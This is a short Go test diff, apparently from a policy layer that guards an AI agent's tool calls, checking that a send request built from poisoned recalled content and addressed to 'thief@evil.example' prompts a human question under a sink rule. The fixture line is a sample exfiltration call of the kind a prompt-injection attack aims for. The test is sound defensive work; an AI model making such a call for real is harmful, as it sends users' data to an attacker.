@@ -272,8 +272,8 @@ func TestRecalledWordsAreNoDestinations(t *testing.T) {
 	} {
 		flow := flowOf("send the summary to the sender", poisoned("x"), r)
 		d := policy.Chain{policy.FlowLayer{}}.Decide(t.Context(), policy.Call{Tool: send, Args: json.RawMessage(`{"to":"thief@evil.example","body":"the summary"}`), Flow: flow})
-		if d.Allowed() {
-			t.Errorf("%s: %+v", name, d.Verdict())
+		if !slices.ContainsFunc(d.Asks(), func(q policy.Question) bool { return q.Rule == policy.RuleSink }) {
+			t.Errorf("%s: nobody is asked about the address: %+v", name, d.Verdict())
 		}
 	}
 }
